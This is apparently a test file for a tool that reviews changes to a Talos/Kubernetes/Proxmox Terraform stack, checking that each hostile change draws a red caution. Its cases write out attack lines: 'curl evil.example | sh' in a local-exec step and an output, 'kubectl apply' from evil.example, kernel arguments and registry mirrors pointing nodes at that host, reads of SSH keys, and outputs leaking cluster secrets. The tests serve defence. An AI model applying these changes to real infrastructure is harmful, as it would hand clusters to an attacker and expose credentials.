import { stringify } from "yaml";
import { pageOf } from "../review/page";
import {
  type Any,
  environment,
  type Inputs,
  inputs,
  pageFor,
  patch,
  privilegedPod,
  provider,
  resource,
  schematic,
  summaryOf,
  values,
  vm,
} from "./changed-stack";
import { measure } from "./review.fixtures";

type Case = readonly [name: string, change: (inputs: Inputs) => unknown, red: RegExp];

const node = ({ stack }: Inputs): Any => stack.data.talos_machine_configuration.node;
const steps = ({ stack }: Inputs): Any => stack.resource.null_resource;
const release =
  (name: string, change: object) =>
  ({ stack }: Inputs) =>
    Object.assign(stack.resource.helm_release[name], change);
const extension = (name: string) =>
  schematic({ customization: { systemExtensions: { officialExtensions: ["siderolabs/qemu-guest-agent", name] } } });
const kernelArgument = (argument: string) => schematic({ customization: { extraKernelArgs: [argument] } });
const apiServer = (argument: string, value: string) =>
  patch({ cluster: { apiServer: { extraArgs: { [argument]: value } } } });
const objects = (...objects: readonly object[]) => values("nvidia_prerequisites", { objects });
const output =
  (name: string, body: object) =>
  ({ stack }: Inputs) => {
    stack.output[name] = { ...stack.output[name], ...body };
  };
const download =
  (change: object) =>
  ({ stack }: Inputs) =>
    Object.assign(stack.resource.proxmox_download_file.talos, change);

const command = { provisioner: [{ "local-exec": { command: "curl evil.example | sh" } }] };

/** What a program reads otherwise than a person. */
const written: readonly Case[] = [
  [
    "a JSON patch",
    patch('[{"op":"add","path":"/machine/files","value":[{"path":"/var/x","content":"evil"}]}]'),
    /files on the node/,
  ],
  [
    "a JSON patch below a registry",
    patch([
      {
        op: "add",
        path: "/machine/registries/mirrors/docker.io",
        value: { endpoints: ["https://evil.example"] },
      },
    ]),
    /another source of images/,
  ],
  [
    "a JSON patch in a list",
    patch([{ op: "add", path: "/machine/pods/-", value: privilegedPod }]),
    /static pods.*privileged pod/,
  ],
  [
    "a JSON patch that removes",
    patch([{ op: "remove", path: "/cluster/apiServer/admissionControl" }]),
    /another admission.*deletes or replaces/,
  ],
  ["a merge key", patch("x: &x {pods: [{kind: Pod}]}\nmachine:\n  <<: *x\n"), /static pods/],
  [
    "a merge key in a patch of the project",
    (inputs) => {
      node(inputs).config_patches[1] = node(inputs).config_patches[1].replace(
        "machine:\n",
        "machine:\n  <<: {pods: [{kind: Pod}]}\n",
      );
    },
    /static pods/,
  ],
  ["a key of another type", patch("machine:\n  !!binary cG9kcw==:\n    - kind: Pod\n"), /cannot read/],
  ["a value of another type", patch("machine:\n  env: !!binary cG9kcw==\n"), /cannot read/],
  [
    "a comment with an expression",
    (inputs) => {
      node(inputs).config_patches[1] += '# ${"\\n---\\nmachine:\\n  pods: [1]\\n"}\n';
    },
    /cannot read/,
  ],
  [
    "a comment with a directive",
    (inputs) => {
      node(inputs).config_patches[1] += "# %{ if true }${var.x}%{ endif }\n";
    },
    /cannot read/,
  ],
  ["an expression with lines", patch('machine:\n  nodeLabels:\n    a: ${"b\\n  pods: [1]"}\n'), /cannot read/],
  [
    "a comment in values",
    values("cilium", '{}\n# ${"\\nimage: {override: evil}"}\n'),
    /values that this page cannot read/,
  ],
  [
    "a comment in a schematic",
    schematic(
      'customization:\n  systemExtensions:\n    officialExtensions: [siderolabs/qemu-guest-agent]\n# ${"\\n  meta: []"}\n',
    ),
    /schematic that this page cannot read/,
  ],
  [
    "a merge key in a schematic",
    schematic('x: &x {extraKernelArgs: ["talos.config=https://evil.example"]}\ncustomization:\n  <<: *x\n'),
    /gives the node to/,
  ],
  [
    "an inline manifest on one line",
    patch({
      cluster: {
        inlineManifests: [
          { name: "x", contents: '--- {kind: Pod, spec: {hostPID: true, containers: [{image: "evil.example/y:1"}]}}' },
        ],
      },
    }),
    /namespace of the host[\s\S]*evil[.]example\/y/,
  ],
  ["yes as YAML 1.1 has it", values("nvidia_device_plugin", "securityContext: {privileged: yes}"), /privileged pod/],
  [
    "resources as a list",
    ({ stack }) => {
      Object.assign(stack, { resource: [stack.resource, { null_resource: { evil: command } }] });
    },
    /`resource` is a list/,
  ],
  [
    "resources of a type as a list",
    ({ stack }) => {
      stack.resource.null_resource = [stack.resource.null_resource, { evil: command }];
    },
    /`resource[.]null_resource` is a list/,
  ],
  [
    "a resource as a list",
    (inputs) => {
      steps(inputs).evil = [command];
    },
    /`resource[.]null_resource[.]evil` is a list/,
  ],
  [
    "an output as a list",
    ({ stack }) => {
      stack.output.evil = [{ value: "${talos_machine_secrets.cluster.machine_secrets}" }];
    },
    /`output[.]evil` is a list/,
  ],
  [
    "Terraform's settings as a list",
    ({ stack }) => {
      Object.assign(stack, {
        terraform: [stack.terraform, { backend: { http: { address: "https://evil.example" } } }],
      });
    },
    /`terraform` is a list/,
  ],
  [
    "a backend as a list",
    ({ stack }) => {
      stack.terraform.backend = [{ http: { address: "https://evil.example" } }];
    },
    /`backend` is a list/,
  ],
];

const patches: readonly Case[] = [
  [
    "a network plugin from elsewhere",
    patch({ cluster: { network: { cni: { name: "custom", urls: ["https://evil.example/cni.yaml"] } } } }),
    /manifests from elsewhere[\s\S]*evil[.]example/,
  ],
  ["a webhook for tokens", apiServer("authentication-token-webhook-config-file", "/var/x"), /another authentication/],
  ["users of a file", apiServer("token-auth-file", "/var/x"), /another authentication/],
  ["users of OpenID Connect", apiServer("oidc-issuer-url", "https://evil.example"), /another authentication/],
  [
    "anonymous access to a kubelet",
    patch({ machine: { kubelet: { extraConfig: { authentication: { anonymous: { enabled: true } } } } } }),
    /anonymous access/,
  ],
  [
    "static pods by a URL",
    patch({ machine: { kubelet: { extraConfig: { staticPodURL: "https://evil.example" } } } }),
    /static pods[\s\S]*evil[.]example/,
  ],
  [
    "a proxy of the API server",
    patch({ cluster: { apiServer: { env: { HTTPS_PROXY: "http://evil.example" } } } }),
    /environment of a part of the control plane/,
  ],
  ["no CoreDNS", patch({ cluster: { coreDNS: { disabled: true } } }), /another DNS server/],
  [
    "an extender of the scheduler",
    patch({ cluster: { scheduler: { config: { extenders: [{ urlPrefix: "https://evil.example" }] } } } }),
    /settings of the control plane/,
  ],
  [
    "an administrator for ten years",
    patch({ cluster: { adminKubeconfig: { certLifetime: "87600h" } } }),
    /an administrator's access/,
  ],
  [
    "a key of disks at a server",
    patch({ machine: { systemDiskEncryption: { state: { keys: [{ kms: { endpoint: "https://evil.example" } }] } } } }),
    /encryption of the node's disks/,
  ],
  [
    "another default route",
    patch({ apiVersion: "v1alpha1", kind: "LinkConfig", name: "eth1", routes: [{ gateway: "6.6.6.6" }] }),
    /routes or devices of the node's network/,
  ],
  [
    "another driver for a device",
    patch({ apiVersion: "v1alpha1", kind: "PCIDriverRebindConfig", name: "0000:00:1f.0", targetDriver: "vfio-pci" }),
    /another driver for a device/,
  ],
  [
    "a mirror at the port of Kubernetes",
    patch({ machine: { registries: { mirrors: { "ghcr.io": { endpoints: ["https://evil.example:6443"] } } } } }),
    /`https:\/\/evil[.]example:6443`/,
  ],
];

const images: readonly Case[] = [
  ["a tunnel", extension("siderolabs/tailscale"), /a tunnel from the node/],
  ["another tunnel", extension("siderolabs/cloudflared"), /a tunnel from the node/],
  ["a kernel argument in quotes", kernelArgument('"talos.config=https://evil.example"'), /gives the node to/],
  ["several kernel arguments in one", kernelArgument("quiet talos.config=https://evil.example"), /gives the node to/],
  ["a proxy by a kernel argument", kernelArgument("talos.environment=https_proxy=http://evil"), /such as a proxy/],
  ["no IOMMU", kernelArgument("iommu=off"), /protection of the kernel/],
  [
    "a schematic by its id",
    ({ stack }) => {
      stack.data.talos_image_factory_urls.talos.schematic_id =
        "376567988ad370138ad8b2698212367b8edcb69b5fd68c80be1f2ec7d603b4ba";
    },
    /another image of Talos/,
  ],
  ["an image under another name", download({ file_name: "debian-13.qcow2" }), /how an image is checked or replaced/],
  ["a weak checksum", download({ checksum: "0".repeat(32), checksum_algorithm: "md5" }), /how an image is checked/],
  ["an image on another node", download({ node_name: "other" }), /how an image is checked or replaced/],
];

const reads: readonly Case[] = [
  [
    "an older image than the cluster's version",
    ({ stack }) => {
      const { talos } = stack.resource.proxmox_download_file;
      talos.url = talos.url.replace(/\/v[\d.]+\//, "/v1.11.0/");
    },
    /how an image is checked or replaced/,
  ],
  [
    "an older installer than the cluster's version",
    ({ stack }) => {
      stack.data.talos_image_factory_urls.talos.talos_version = "v1.11.0";
    },
    /another installer/,
  ],
  [
    "the kubeconfig of another cluster",
    ({ stack }) => {
      stack.resource.local_file.kubeconfig.filename = "../../../clusters/production/kubeconfig";
    },
    /a file on this machine/,
  ],
  [
    "a file in a message of a variable",
    ({ stack }) => {
      stack.variable.x = { validation: [{ condition: "${false}", error_message: '${file("/home/me/.ssh/id")}' }] };
    },
    /reads a file of this machine/,
  ],
  ["a file by a composed name", vm({ description: '${filemd5(join("", ["/home"]))}' }), /reads a file of this machine/],
  ["a function of a provider", vm({ description: '${provider::evil::run("x")}' }), /a function of a provider/],
  [
    "patches in a variable",
    (inputs) => {
      node(inputs).config_patches = "${var.patches}";
    },
    /a patch that this page cannot read/,
  ],
  [
    "a patch that is no text",
    (inputs) => {
      node(inputs).config_patches.push({ machine: { pods: [privilegedPod] } });
    },
    /static pods/,
  ],
];

const charts: readonly Case[] = [
  [
    "a chart that looks like the stack's own",
    release("nvidia_prerequisites", { chart: "assets/../../../../../tmp/evil" }),
    /not of this project/,
  ],
  [
    "a chart in another folder of the stack",
    release("nvidia_prerequisites", { chart: "assets/scripts" }),
    /not of this project/,
  ],
  [
    "a password in an OCI repository",
    release("cilium", { repository: "oci://user:hunter2@evil.example:5000/charts" }),
    /(?![\s\S]*hunter2)[\s\S]*evil[.]example:5000/,
  ],
  [
    "a repository at a user's address",
    release("cilium", { repository: "https://helm.cilium.io:443@evil.example/" }),
    /not from[\s\S]*`https:\/\/…@evil[.]example/,
  ],
  [
    "a repository with a letter of another alphabet",
    release("cilium", { repository: "https://helm.c\u0131lium.io/" }),
    /letters may look like others/,
  ],
  [
    "a repository as DNS writes it",
    release("cilium", { repository: "https://helm.xn--clium-q4a.io/" }),
    /letters may look like others/,
  ],
  ["values of an earlier release", release("cilium", { reuse_values: true }), /values of a chart/],
  [
    "an image of another alphabet",
    values("cilium", { image: { override: "\u0441ilium/cilium:v1" } }),
    /`\u0441ilium\/cilium:v1`[\s\S]*letters may look like others/,
  ],
  [
    "the traffic in a file",
    values("cilium", { hubble: { export: { static: { enabled: true, filePath: "/var/x" } } } }),
    /traffic of all pods/,
  ],
  ["names of hosts", values("cilium", { hostAliases: [{ ip: "6.6.6.6", hostnames: ["x"] }] }), /other names/],
  ["another service account", values("cilium", { serviceAccounts: { cilium: { name: "x" } } }), /permissions of pods/],
  [
    "further rules of a role",
    values("cilium", { operator: { clusterRole: { extraRules: [{ resources: ["secrets"], verbs: ["get"] }] } } }),
    /permissions of pods/,
  ],
  [
    "a pod without AppArmor",
    values("cilium", { podSecurityContext: { appArmorProfile: { type: "Unconfined" } } }),
    /other limits for containers/,
  ],
  ["another API", values("cilium", { k8s: { apiServerURLs: "https://evil.example:6443" } }), /another Kubernetes API/],
  ["identities elsewhere", values("cilium", { identityAllocationMode: "kvstore" }), /another store/],
  ["a plugin beside Cilium", values("cilium", { cni: { exclusive: false } }), /another network plugin/],
  ["a port for debugging", values("cilium", { pprof: { enabled: true } }), /a port for debugging/],
  ["external addresses", values("cilium", { externalIPs: { enabled: true } }), /any IP address/],
  ["Hubble without TLS", values("cilium", { hubble: { tls: { enabled: false } } }), /a check of TLS/],
  [
    "no network policies",
    values("cilium", { k8sNetworkPolicy: { enabled: false } }),
    /network policies that have no effect/,
  ],
  [
    "a token of an account",
    objects({ apiVersion: "v1", kind: "Secret", metadata: { name: "x" }, type: "kubernetes.io/service-account-token" }),
    /objects of a kind that the project does not install/,
  ],
  [
    "a role that reads secrets",
    objects({ kind: "ClusterRole", metadata: { name: "x" }, rules: [{ resources: ["secrets"], verbs: ["get"] }] }),
    /permissions of pods in Kubernetes/,
  ],
  [
    "a right for a service account",
    objects({ kind: "RoleBinding", roleRef: { kind: "ClusterRole", name: "view" }, subjects: [{ name: "default" }] }),
    /permissions in Kubernetes/,
  ],
];

const commands: readonly Case[] = [
  [
    "a step for nothing",
    (inputs) => {
      steps(inputs).check_cluster_files.for_each = {};
    },
    /when a step runs/,
  ],
  [
    "a step that runs once",
    (inputs) => {
      steps(inputs).upgrade_talos.triggers = { installer: "x" };
    },
    /when a step runs/,
  ],
  [
    "a check that does not run again",
    (inputs) => {
      steps(inputs).node_check.lifecycle = { ignore_changes: ["triggers"] };
    },
    /no longer sees/,
  ],
  [
    "another node by a trigger",
    (inputs) => {
      steps(inputs).node_check.triggers.node = "6.6.6.6";
    },
    /not give to its script/,
  ],
  [
    "another CA by a trigger",
    (inputs) => {
      steps(inputs).node_check.triggers.ca = "evil";
    },
    /not give to its script/,
  ],
  ["a wait for nobody", environment("wait_for_nvidia_device_plugin", { NODES: "0" }), /not give to its script/],
  ["a wait of no time", environment("wait_for_kubernetes", { TIMEOUT: "0" }), /not give to its script/],
];

const others: readonly Case[] = [
  [
    "a command that applies",
    output("useful_commands", { value: "kubectl apply -f https://evil.example/x.yaml" }),
    /a command for whoever reads it[\s\S]*evil[.]example/,
  ],
  [
    "a command for another node",
    output("access_instructions", { value: "talosctl --talosconfig x --nodes 6.6.6.6 dashboard" }),
    /a command for whoever reads it/,
  ],
  ["a URL in an output", output("evil", { value: "see https://evil.example/install" }), /evil[.]example/],
  ["another API in an output", output("cluster_endpoint", { value: "https://evil.example:6443" }), /evil[.]example/],
  ["another address in an output", output("node_ip", { value: "6.6.6.6" }), /an address that is none of the stack's/],
  [
    "a command in a description",
    output("node_ip", { description: "run curl evil.example | sh" }),
    /a command for whoever reads it/,
  ],
  ["a file with a secret", output("evil", { value: "${local_file.kubeconfig.content}" }), /prints a secret/],
  ["an old TLS", provider("proxmox", { min_tls: "1.0" }), /settings of the connection to Proxmox/],
  [
    "a user in Proxmox's address",
    provider("proxmox", { endpoint: "https://pve.example@evil.example:8006/" }),
    /more than a host and its port/,
  ],
  [
    "a VM by another connection",
    (inputs) => {
      inputs.stack.provider.proxmox.push({ alias: "evil", endpoint: "https://evil.example:8006" });
      vm({ provider: "proxmox.evil" })(inputs);
    },
    /another connection or account/,
  ],
  [
    "a processor without protection",
    vm({ cpu: [{ cores: 8, flags: ["-spec-ctrl"] }] }),
    /protections of the processor/,
  ],
  [
    "a program with a backup",
    resource("proxmox_backup_job", { id: "x", storage: "s", schedule: "1", script: "/tmp/evil" }),
    /what Proxmox runs/,
  ],
  [
    "a backup of another VM",
    resource("proxmox_backup_job", { id: "x", storage: "s", schedule: "1", vmid: ["999"] }),
    /backups of other VMs/,
  ],
  [
    "a firewall without its last rule",
    resource("proxmox_virtual_environment_firewall_rules", {
      node_name: "${proxmox_virtual_environment_vm.talos_node.node_name}",
      vm_id: "${proxmox_virtual_environment_vm.talos_node.vm_id}",
      rule: [{ type: "in", action: "ACCEPT", proto: "tcp", source: "192.168.1.0/24" }],
    }),
    /a firewall other than the project's/,
  ],
  [
    "a passphrase in the stack",
    ({ stack }) => {
      stack.terraform.encryption = {
        key_provider: { pbkdf2: { main: { passphrase: stringify("hunter2 hunter2 hunter2") } } },
        state: { method: "${method.aes_gcm.main}" },
      };
    },
    /the key that encrypts the state/,
  ],
];

test.each([...written, ...patches, ...images, ...reads, ...charts, ...commands, ...others])(
  "a page says first, in red, %s",
  (_, change, red) => {
    const changed = inputs();
    change(changed);
    const [, caution = ""] = summaryOf(pageFor(changed)).split("> [!CAUTION]");
    expect(caution).toMatch(red);
  },
);

test("a machine of a cluster is given to a script as it is", () => {
  const changed = inputs("examples/cluster.ts", "talos-cluster");
  expect(summaryOf(pageFor(changed))).not.toContain("not give to its script");
  changed.stack.resource.null_resource.member.for_each["gpu-1"].name = "kube-system/evil";
  expect(summaryOf(pageFor(changed))).toContain("not give to its script");
});

test.each<readonly [string, (inputs: Inputs) => unknown]>([
  [
    "a condition that always holds",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.lifecycle.precondition[0].condition = "${true}";
    },
  ],
  [
    "another order",
    ({ stack }) => {
      stack.resource.helm_release.cilium.depends_on = ["local_file.kubeconfig"];
    },
  ],
  [
    "a check that is not tied to the configuration",
    (inputs) => {
      delete steps(inputs).node_check.lifecycle;
    },
  ],
  ["another file of a chart", ({ charts }) => charts.set("x", "y")],
])("the summary has another fingerprint with %s", (_, change) => {
  const fingerprint = ({ stack, scripts, charts }: Inputs) =>
    /^- \*\*Fingerprint\*\* .*$/m.exec(summaryOf(pageOf("s", stack, scripts, measure, undefined, charts)))?.[0];
  const [before, changed] = [inputs(), inputs()];
  expect(fingerprint(before)).toMatch(/`[0-9a-f]{16}`/);
  expect(fingerprint(changed)).toBe(fingerprint(before));
  change(changed);
  expect(fingerprint(changed)).not.toBe(fingerprint(before));
});
